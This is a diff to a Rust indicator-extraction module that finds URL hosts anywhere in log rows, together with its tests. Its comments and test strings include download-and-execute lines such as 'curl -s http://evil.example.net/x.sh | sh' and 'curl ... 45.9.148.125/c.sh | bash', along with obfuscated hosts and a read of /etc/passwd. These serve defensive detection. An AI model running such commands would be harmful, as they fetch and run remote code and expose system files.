@@ -4,12 +4,26 @@
 //! lists instead of knowing that `socket_events` says `remote_address` while `last`
 //! says `host`. Extraction goes by column name first (cheap, and it avoids treating any
 //! 32-hex-digit string as an MD5) and then validates the value's shape.
+//!
+//! URLs are the exception: the host of every URL in any column is a `domain` (or an `ip`),
+//! wherever it is written (`curl -s http://evil.example.net/x.sh | sh` in a crontab
+//! `command`, a `cmdline`, a launchd `program_arguments`), since a payload's source is the
+//! observable a responder most wants from a command line. See [`push_url_hosts`] for what
+//! counts as a URL.
 
 use std::borrow::Cow;
 use std::net::IpAddr;
+use std::sync::LazyLock;
+
+use memchr::memmem::Finder;
 
 use crate::event::Indicators;
 use crate::fields::Fields;
+
+/// What every URL contains. Searched for once in a row's whole text
+/// ([`Fields::values_containing`]), so a row without a URL (nearly every row) costs one
+/// vectorized scan, not a search per value.
+static SCHEME_SEPARATOR: LazyLock<Finder<'static>> = LazyLock::new(|| Finder::new("://"));
 
 /// Extracts indicators from a row's columns. Values that don't have the expected shape
 /// for their column are ignored, never guessed at.
@@ -54,15 +68,6 @@ pub fn extract_into(columns: &Fields, out: &mut Indicators) {
                 None if is_domain(text) => push(&mut out.domain, text.to_ascii_lowercase()),
                 None => {}
             },
-            Class::Url => {
-                if let Some(host) = url_host(text) {
-                    match parse_ip(host) {
-                        Some(ip) => push_ip(&mut out.ip, ip),
-                        None if is_domain(host) => push(&mut out.domain, host.to_ascii_lowercase()),
-                        None => {}
-                    }
-                }
-            }
             Class::Hash if text.bytes().all(|b| b.is_ascii_hexdigit()) => {
                 let list = match text.len() {
                     32 => &mut out.md5,
@@ -78,12 +83,16 @@ pub fn extract_into(columns: &Fields, out: &mut Indicators) {
             Class::Hash | Class::User => {}
         }
     }
+    // Nested values are searched as their JSON text: a URL's host holds no character that
+    // JSON escapes, and the quote that ends a JSON string ends the host too.
+    for text in columns.values_containing(&SCHEME_SEPARATOR) {
+        push_url_hosts(text, out);
+    }
 }
 
 enum Class {
     Address,
     Host,
-    Url,
     Hash,
     User,
 }
@@ -97,7 +106,7 @@ fn may_classify(key: &str) -> bool {
     key.as_bytes().last().is_some_and(|b| {
         matches!(
             b | 0x20,
-            b's' | b'p' | b'l' | b't' | b'e' | b'n' | b'r' | b'5' | b'1' | b'6' | b'h'
+            b's' | b'p' | b't' | b'e' | b'n' | b'r' | b'5' | b'1' | b'6' | b'h'
         )
     })
 }
@@ -115,11 +124,10 @@ fn by_name(key: &str) -> Option<Class> {
         }
         "user" | "username" | "user_name" | "login" | "account" => Some(Class::User),
         "md5" | "sha1" | "sha256" | "hash" => Some(Class::Hash),
-        "url" => Some(Class::Url),
+        // `url` columns need no name: their URLs are found with everyone else's.
         _ if key.ends_with("address") || key == "ip" || key.ends_with("_ip") => {
             Some(Class::Address)
         }
-        _ if key.ends_with("_url") => Some(Class::Url),
         _ if key.ends_with("_md5") || key.ends_with("_sha1") || key.ends_with("_sha256") => {
             Some(Class::Hash)
         }
@@ -167,18 +175,130 @@ fn is_domain(text: &str) -> bool {
         && text.bytes().any(|b| b.is_ascii_alphabetic())
 }
 
-fn url_host(text: &str) -> Option<&str> {
-    let (scheme, rest) = text.split_once("://")?;
-    if !scheme.eq_ignore_ascii_case("http") && !scheme.eq_ignore_ascii_case("https") {
-        return None;
+/// Adds the host of every URL in `text`: an `ip` for an IP literal (IPv6 without its
+/// brackets), else a `domain`, lower-cased and without a trailing dot; userinfo, port, path,
+/// query and fragment are no part of it.
+///
+/// A URL here is `scheme://authority`, the scheme being the letters, digits, `+`, `-` and `.`
+/// right before `://` (from its first letter) and the authority what follows up to a `/`,
+/// `?`, `#`, `\`, blank, quote or shell punctuation (`|;&()<>{}` and the like), so that a
+/// URL ends where a command line moves on. The host is read as a browser reads it (WHATWG:
+/// percent-decoded, IDNA to ASCII, `0x7f.1` and `2130706433` are IPv4), then must be an IP
+/// or a name of letters, digits, `-` and `_` labels with a letter somewhere.
+///
+/// For schemes whose authority is always a network host ([`HOST_SCHEMES`]: `http`, `https`,
+/// `ftp`, `ssh`, `socks5h`, ...) any such host counts, one-label names (`http://intranet/`)
+/// included. Other schemes (`s3://`, `gs://`, `file://`, `jdbc:mysql://`, made-up ones) may
+/// name something else (`s3://bucket/key` names a bucket), so there a host counts only when it
+/// is an IP or looks like a DNS name: two labels or more, the last alphabetic
+/// (`s3://logs.example.com/x` does, `s3://acme-backups/x` does not). `file:///path` has an
+/// empty host and gives nothing, as does garbage: `http://` alone, a port that is not a
+/// number up to 65535, characters no host has, an unspecified address (`0.0.0.0`).
+fn push_url_hosts(text: &str, out: &mut Indicators) {
+    for at in SCHEME_SEPARATOR.find_iter(text.as_bytes()) {
+        let Some(scheme) = scheme_before(&text[..at]) else {
+            continue;
+        };
+        let rest = &text[at + 3..];
+        let end = rest.find(ends_authority).unwrap_or(rest.len());
+        let Some(host) = authority_host(&rest[..end]) else {
+            continue;
+        };
+        let Ok(host) = url::Host::parse(host) else {
+            continue;
+        };
+        let always_host = HOST_SCHEMES.iter().any(|h| h.eq_ignore_ascii_case(scheme));
+        match host {
+            url::Host::Ipv4(ip) if !ip.is_unspecified() => {
+                push(&mut out.ip, ip.to_string());
+            }
+            url::Host::Ipv6(ip) if !ip.is_unspecified() => {
+                push(&mut out.ip, ip.to_string());
+            }
+            url::Host::Domain(name) => {
+                let name = name.strip_suffix('.').unwrap_or(&name);
+                if is_domain(name) && (always_host || looks_like_dns_name(name)) {
+                    // WHATWG parsing lower-cases ASCII already.
+                    push(&mut out.domain, name.to_owned());
+                }
+            }
+            url::Host::Ipv4(_) | url::Host::Ipv6(_) => {}
+        }
     }
-    let authority = rest.split(['/', '?', '#']).next()?;
-    let authority = authority.rsplit_once('@').map_or(authority, |(_, h)| h);
-    if let Some(v6) = authority.strip_prefix('[') {
-        return v6.split_once(']').map(|(h, _)| h);
-    }
-    let host = authority.split_once(':').map_or(authority, |(h, _)| h);
-    (!host.is_empty()).then_some(host)
+}
+
+/// Schemes whose authority is always a network host (see [`push_url_hosts`]): the web, file
+/// transfer, remote shells and directories, and the proxies `curl -x` takes.
+const HOST_SCHEMES: &[&str] = &[
+    "http", "https", "ftp", "ftps", "sftp", "tftp", "ws", "wss", "ssh", "telnet", "smb", "ldap",
+    "ldaps", "git", "rsync", "irc", "ircs", "socks4", "socks4a", "socks5", "socks5h",
+];
+
+/// The scheme that ends `before` (the text up to a `://`): its trailing run of scheme
+/// characters from the first letter, as RFC 3986 has schemes start with one.
+fn scheme_before(before: &str) -> Option<&str> {
+    let run = before
+        .bytes()
+        .rev()
+        .take_while(|&b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'-' | b'.'))
+        .count();
+    let run = &before[before.len() - run..];
+    let first_letter = run.find(|c: char| c.is_ascii_alphabetic())?;
+    Some(&run[first_letter..])
+}
+
+/// Whether `c` ends a URL's authority: where the path, query or fragment starts (`\` too, as
+/// browsers read it after `http:`), or where a command line, quoted string or markup goes on.
+fn ends_authority(c: char) -> bool {
+    c.is_whitespace()
+        || c.is_control()
+        || matches!(
+            c,
+            '/' | '?'
+                | '#'
+                | '\\'
+                | '"'
+                | '\''
+                | '`'
+                | '<'
+                | '>'
+                | '|'
+                | ';'
+                | '&'
+                | '('
+                | ')'
+                | '{'
+                | '}'
+                | ','
+                | '^'
+                | '*'
+        )
+}
+
+/// The host in an authority (`user:pass@host:port`): `None` for an empty host or a port that
+/// is not a number up to 65535. IPv6 literals keep their brackets, which the host parser
+/// expects.
+fn authority_host(authority: &str) -> Option<&str> {
+    let host_port = authority.rsplit_once('@').map_or(authority, |(_, h)| h);
+    let (host, port) = if host_port.starts_with('[') {
+        let close = host_port.find(']')?;
+        let (host, after) = host_port.split_at(close + 1);
+        (
+            host,
+            after.strip_prefix(':').or(after.is_empty().then_some(""))?,
+        )
+    } else {
+        host_port.split_once(':').unwrap_or((host_port, ""))
+    };
+    let port_ok = port.is_empty()
+        || (port.bytes().all(|b| b.is_ascii_digit()) && port.parse::<u16>().is_ok());
+    (!host.is_empty() && port_ok).then_some(host)
+}
+
+/// A name as public DNS has them: two labels or more, the last (the TLD) letters only.
+fn looks_like_dns_name(name: &str) -> bool {
+    name.rsplit_once('.')
+        .is_some_and(|(_, tld)| tld.len() >= 2 && tld.bytes().all(|b| b.is_ascii_alphabetic()))
 }
 
 #[cfg(test)]
@@ -249,6 +369,205 @@ mod tests {
             ] {
                 if classify(&key.to_ascii_lowercase()).is_some() {
                     prop_assert!(may_classify(&key), "{key:?}");
+                }
+            }
+        }
+    }
+
+    /// The domains and IPs of one column's value.
+    fn urls(value: &str) -> (Vec<String>, Vec<String>) {
+        let i = extract(&cols(json!({ "command": value })));
+        (i.domain, i.ip)
+    }
+
+    fn domains(value: &str) -> Vec<String> {
+        let (domains, ips) = urls(value);
+        assert!(ips.is_empty(), "{value}: {ips:?}");
+        domains
+    }
+
+    fn ips(value: &str) -> Vec<String> {
+        let (domains, ips) = urls(value);
+        assert!(domains.is_empty(), "{value}: {domains:?}");
+        ips
+    }
+
+    #[test]
+    fn url_hosts_in_command_lines() {
+        assert_eq!(
+            domains("curl -s http://evil.example.net/x.sh | sh"),
+            ["evil.example.net"]
+        );
+        assert_eq!(ips("wget -qO- https://1.2.3.4:8443/a"), ["1.2.3.4"]);
+        assert_eq!(
+            domains(r#"bash -c "$(curl -fsSL https://raw.githubusercontent.com/x/y/z.sh)""#),
+            ["raw.githubusercontent.com"]
+        );
+        // Userinfo and port are no part of the host; case and a trailing dot neither.
+        assert_eq!(
+            domains("curl ftp://backup:s3cr3t@Files.Example.COM.:2121/pub/x.tgz -o /tmp/x"),
+            ["files.example.com"]
+        );
+        assert_eq!(
+            domains("curl 'https://user@evil.example.net:443?q=1#frag'"),
+            ["evil.example.net"]
+        );
+        // IPv6 literals lose their brackets and take their canonical form.
+        assert_eq!(
+            ips("curl -g 'http://[2001:DB8:0::1]:8080/p' && nc [::1] 80"),
+            ["2001:db8::1"]
+        );
+        // Several URLs, each host once, in order.
+        assert_eq!(
+            domains(
+                "curl http://a.example.com/1 && wget https://b.example.org/2;\
+                 curl http://A.example.com/3|sh"
+            ),
+            ["a.example.com", "b.example.org"]
+        );
+        let (d, i) = urls("python3 -c 'import urllib.request as u; u.urlopen(\"http://198.51.100.7/p\")' # see https://docs.example.org/");
+        assert_eq!(
+            (d, i),
+            (
+                vec!["docs.example.org".to_string()],
+                vec!["198.51.100.7".to_string()]
+            )
+        );
+        // No URL.
+        assert_eq!(
+            urls("/usr/sbin/logrotate /etc/logrotate.conf"),
+            (vec![], vec![])
+        );
+        assert_eq!(
+            urls("curl -fsSL 45.9.148.125/c.sh | bash"),
+            (vec![], vec![])
+        );
+    }
+
+    #[test]
+    fn url_hosts_as_a_browser_reads_them() {
+        // Numeric IPv4 forms, as obfuscated download URLs use them.
+        assert_eq!(ips("curl http://0x7f.1/x"), ["127.0.0.1"]);
+        assert_eq!(ips("curl http://2130706433/x"), ["127.0.0.1"]);
+        // Percent-encoding and IDNA.
+        assert_eq!(
+            domains("curl http://evil%2Eexample.net/"),
+            ["evil.example.net"]
+        );
+        assert_eq!(domains("curl http://BÜCHER.de/"), ["xn--bcher-kva.de"]);
+        // `\` starts the path, as after http: in a browser.
+        assert_eq!(domains(r"http://evil.example.net\x"), ["evil.example.net"]);
+    }
+
+    #[test]
+    fn schemes_that_do_not_always_name_a_host() {
+        // One-label names count where the scheme always names a host...
+        assert_eq!(domains("curl http://intranet:8080/x"), ["intranet"]);
+        assert_eq!(
+            domains("curl -x socks5h://proxy:1080 http://x.example.com/"),
+            ["proxy", "x.example.com"]
+        );
+        assert_eq!(
+            domains("git clone ssh://git@github.com:22/o/r.git"),
+            ["github.com"]
+        );
+        // ...elsewhere only a DNS-like name or an IP does.
+        assert_eq!(
+            urls("aws s3 cp s3://acme-prod-backups/db.sql.gz /tmp/"),
+            (vec![], vec![])
+        );
+        assert_eq!(
+            domains("aws s3 cp s3://logs.example.com/x ."),
+            ["logs.example.com"]
+        );
+        assert_eq!(
+            domains("jdbc:mysql://db.example.com:3306/app"),
+            ["db.example.com"]
+        );
+        assert_eq!(ips("gs://10.0.0.9/b"), ["10.0.0.9"]);
+        assert_eq!(urls("myapp://settings/x.y"), (vec![], vec![]));
+        // file:/// has no host.
+        assert_eq!(
+            urls("cat file:///etc/passwd file://localhost/etc/hosts"),
+            (vec![], vec![])
+        );
+    }
+
+    #[test]
+    fn url_garbage_is_ignored() {
+        for value in [
+            "http://",
+            "http:// evil.example.net",
+            "://evil.example.net",
+            "123://evil.example.net",
+            "http://ev!l.example.net/",
+            "http://evil.example.net:99999/",
+            "http://evil.example.net:8o/",
+            "http://user@/x",
+            "http://[2001:db8::1/",
+            "http://[2001:db8::1]x/",
+            "http://[not-v6]/",
+            "http://0.0.0.0:8000/",
+            "http://[::]:80/",
+            "http://..",
+            "http://-/",
+            "http://%zz/",
+            "http://1.2.3.4.5/",
+            "http://evil.1/",
+        ] {
+            assert_eq!(urls(value), (vec![], vec![]), "{value}");
+        }
+    }
+
+    #[test]
+    fn urls_count_in_any_column_and_any_json_form() {
+        // A `url` column, a command line, a nested value, escaped slashes (as osquery's
+        // Firehose logger writes them): the decoded text is what is searched.
+        let row: Fields = serde_json::from_str(
+            r#"{"args": ["sh", "-c", "curl http://nested.example.com/x"],
+                "cmdline": "curl http:\/\/escaped.example.com\/x.sh",
+                "url": "https://EVIL.example.net:8443/x?y",
+                "host": "evil.example.net"}"#,
+        )
+        .unwrap();
+        let i = extract(&row);
+        // Named columns' hosts first, then URL hosts in column order, each host once.
+        assert_eq!(
+            i.domain,
+            [
+                "evil.example.net",
+                "nested.example.com",
+                "escaped.example.com"
+            ]
+        );
+        // `://` across a name and its value is no URL.
+        let i = extract(&cols(json!({"a:": "//evil.example.net", "b": "x"})));
+        assert!(i.is_empty(), "{i:?}");
+    }
+
+    proptest! {
+        /// Any text, and text made of URL parts, never panics, and what comes out has the
+        /// shape the lists promise.
+        #[test]
+        fn url_extraction_never_panics(
+            random in "\\PC{0,80}",
+            parts in proptest::collection::vec(
+                "://|http|s3|[a-zA-Z0-9]{1,8}|\\.|@|:|\\[|\\]|/|%[0-9a-fA-F]{2}|%|[ \"'|;]|\\PC",
+                0..40,
+            ),
+        ) {
+            for text in [random.clone(), parts.concat(), format!("{random}{}", parts.concat())] {
+                let (domains, ips) = urls(&text);
+                for d in &domains {
+                    prop_assert!(is_domain(d), "{d:?} from {text:?}");
+                    prop_assert_eq!(d, &d.to_ascii_lowercase());
+                }
+                for ip in &ips {
+                    let parsed: IpAddr = ip.parse().unwrap();
+                    prop_assert_eq!(ip, &parsed.to_string());
+                }
+                if !text.contains("://") {
+                    prop_assert!(domains.is_empty() && ips.is_empty());
                 }
             }
         }
